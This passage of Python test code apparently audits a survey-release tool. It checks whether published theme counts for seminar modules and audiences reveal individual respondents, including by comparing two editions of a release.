            truth = vectors_of(truth_of_seminar(folder, "C3P1", declared), declared)
            tally = audit(release, declared, truth=truth)
            found = [what for what in tally.what if what[2] == (None, "topics")]
            assert not tally.mismatches, tally.mismatches
            if found:
                persons[audience] += n - 3
                said.append(f"{audience}, {chosen} of {n}: {found[0][3]} {found[0][4]}")
    return Result("who chose an option, and who didn't", bool(persons), sum(persons.values()), "; ".join(said) or "nobody but several dissenters, who aren't the public")


CODEBOOK = """
[[theme]]
id = "more_time"
label = "Time"
dimension = "time"
words = { en = ["time"] }

[tone.approving]
en = ["good"]

[tone.critical]
en = ["lacking"]
"""


def themes_by_module(tool):
    """Themes by module beside the seminar, all audiences together: by enumeration, and a few surveys that check the rule."""
    said, persons, looked = [], 0, 0
    everybody = [(7, False), (10, False), (10, True)]
    for name, audiences in (("public", everybody[2:]), ("focal_points", everybody[1:2]), ("secretariat", everybody[:1]), ("all", everybody)):
        for sizes in ((10, 3), (10, 8), (12, 9), (10, 10), (11, 6, 5), (10, 7, 4), (12, 10, 2)):
            looked += 1
            wrong = [one for one in themes_joint(sizes, audiences) if not one[-1]]
            if wrong:
                module, known, left, they_do, _ = wrong[0]
                persons += max(one[2] for one in wrong)
                said.append(f"{name}: modules of {sizes}, {len(wrong)} groups of insiders, such as {known} (speak, don't, by module): all {left} "
                            f"others of module {module + 1} {'mention it' if they_do else 'do not'}")
    for sizes, counts in (((12, 12), (6, 5)), ((12, 12), (6, 1)), ((12, 4), (6, 2)), ((11, 8, 5), (5, 8, 2)), ((11, 6, 5), (5, 3, 2))):
        said += wrong_themes(tool, sizes, counts)
        looked += 1
    return Result("themes of modules beside the whole seminar", bool(said), persons, "; ".join(said[:6]) + (f"; and {len(said) - 6} more" if len(said) > 6 else "")
                  if said else f"{looked} sets of modules and surveys: nothing")


def wrong_themes(tool, sizes, counts):
    """Where the program tells other counts of a theme than the rule that was enumerated, or one audience more than the next."""
    modules = [f"M{at + 1:02d}" for at in range(len(sizes))]
    people = []
    for module, size, count in zip(modules, sizes, counts):
        people += [{(module, "comment"): "about time" if at < count else "thank you"} for at in range(size)]
    for at, person in enumerate(people):
        person |= {("M01", "relevance"): 1 + at % 5}
    survey = Survey(modules, ["relevance", "comment"])
    survey.codebook = CODEBOOK
    survey.seminar("C3P1", person_by_person(spread(len(people)), people))
    wrong, releases = [], {}
    for audience in AUDIENCES:
        folder, release = tool.release(survey, "themes", audience)
        releases[audience] = release
        total, of_modules = told_theme(list(zip(sizes, counts)), (sum(sizes), sum(counts)), release.settings["smallest_group"], guard_of(release))
        expected = {"": total} | dict(zip(modules, of_modules))
        for row in release.themes:
            shown = (int(row["people"]) if row["people"] else None, (int(row["mention"]), row["mention_is"]) if row["mention"] else None)
            if shown != expected[row["module"]]:
                wrong.append(f"{audience} {sizes} {counts} {row['module'] or 'seminar'}: {shown} and not {expected[row['module']]}")
    for finer, coarser in (("secretariat", "focal_points"), ("focal_points", "public")):
        more = [one for one in not_nested(releases[finer], releases[coarser], Declared(folder))[1] if one[1] == "theme"]
        wrong += [f"{coarser} is told more than {finer}: modules of {sizes}, of whom {counts} mention it: {one}" for one in more]
    return wrong


# --- two editions ------------------------------------------------------------------------------------------------------------------------

def late_comment(tool):
    """A late form's comment: its theme and tone from two releases of theme counts."""
    survey = Survey(["M01"], ["relevance", "improve"])
    survey.codebook = CODEBOOK
    sizes = spread(24, STATES)
    answers = from_vectors(sizes, {("M01", "relevance"): (3, 3, 4, 7, 7)})
    for place, (state, at) in enumerate((s, i) for s in sizes for i in range(sizes[s])):
        answers[state][at][(None, "improve")] = ["Time was lacking", "All good", "Rooms were cold"][place % 3]
    late = "VE"
    answers[late][0][(None, "improve")] = "Time was lacking, the organisers should resign"
    said = []
    for without in (True, False):
        kept = {s: p for s, p in answers.items() if not (without and s == late)}
        attended = {s: len(p) for s, p in answers.items()}
        _, release = tool.release(survey.seminar("C3P1", kept, attended), "late_comment", "public")
        said.append([{k: r[k] for k in ("people", "mention", "criticise")} for r in release.themes if not r["module"]])
    one, other = (rows[0] if rows else {} for rows in said)
    leaks = all(one.get(k) and other.get(k) and int(other[k]) - int(one[k]) == 1 for k in ("people", "mention", "criticise"))
    return Result("a late comment's theme and tone from two editions", leaks, int(leaks), f"before {one}, after {other}")


ALL = [state_named_by_a_share, state_named_by_a_change, colleague_told_by_stable, verdict_of_a_group_too_small, dictionary, names_of_deliveries,
       over_always_means_all, small_counts_follow, no_rating_counts_follow, verdict_pins_a_level, joint_table, joint_learning, everybody_rose,
       score_beside_items, two_options, chosen_options, themes_by_module, formulas, scripts, confidential_inside_a_report, modes, logs,
       deliveries_destroyed]
EDITIONS = [late_comment]
